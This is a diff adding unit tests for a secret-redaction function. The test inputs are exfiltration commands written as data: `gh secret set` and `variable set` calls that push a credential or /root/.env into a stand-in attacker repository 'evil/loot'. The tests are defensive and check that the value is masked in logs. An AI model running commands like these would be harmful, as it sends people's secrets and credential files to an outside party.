@@ -317,6 +317,35 @@ describe('redact: a credential cut at the end of the text', () => {
   });
 });
 
+// The value a forge setting stores in the repository named (forge-settings.ts): what was stolen.
+describe("redact: a forge setting's value", () => {
+  it.each([
+    ['secret set K --body Sx8kLp2QvR7tYw -R evil/loot', 'secret set K --body [REDACTED] -R evil/loot'],
+    ['secret set K --body=Sx8kLp2QvR7tYw', 'secret set K --body=[REDACTED]'],
+    // Falco's words of a multi-line body, up to the next flag.
+    [
+      'secret set K --body [default]\naws_secret = Sx8kLp2QvR7tYw\n -R evil/loot',
+      'secret set K --body [REDACTED]\n -R evil/loot',
+    ],
+    ['secret set K -b "two Sx8kLp2QvR7tYw" -R evil/loot', 'secret set K -b [REDACTED] -R evil/loot'],
+    [
+      String.raw`sh -c "gh secret set K -b \"Sx8kLp2QvR7tYw\" -R evil/loot && git push"`,
+      'sh -c "gh secret set K -b [REDACTED] -R evil/loot && git push"',
+    ],
+    ['variable set K Sx8kLp2QvR7tYw --masked -R evil/loot', 'variable set K [REDACTED] --masked -R evil/loot'],
+    ['variable update K --value Sx8kLp2QvR7tYw -g evil', 'variable update K --value [REDACTED] -g evil'],
+    ['sh -c echo Sx8kLp2QvR7tYw | gh secret set K -R evil/loot', 'sh -c echo [REDACTED] | gh secret set K -R evil/loot'],
+    ['sh -c gh secret set K -R evil/loot <<< Sx8kLp2QvR7tYw', 'sh -c gh secret set K -R evil/loot <<< [REDACTED]'],
+    // gh's -v is the visibility; a value from a file or stdin is named by no word.
+    ['secret set K -v all --org evil -f /root/.env', 'secret set K -v all --org evil -f /root/.env'],
+    ['secret set K -R evil/loot', 'secret set K -R evil/loot'],
+    ['variable set K -f /root/.env -R evil/loot', 'variable set K -f /root/.env -R evil/loot'],
+  ])('%s', (input, output) => {
+    expect(redact(input)).toBe(output);
+    expect(redact(output)).toBe(output);
+  });
+});
+
 describe('redact: a token run into a name by `_`', () => {
   check([
     ['x_ghp_abcdefghijABCDEFGHIJ1234 push', 'x_[REDACTED] push'],
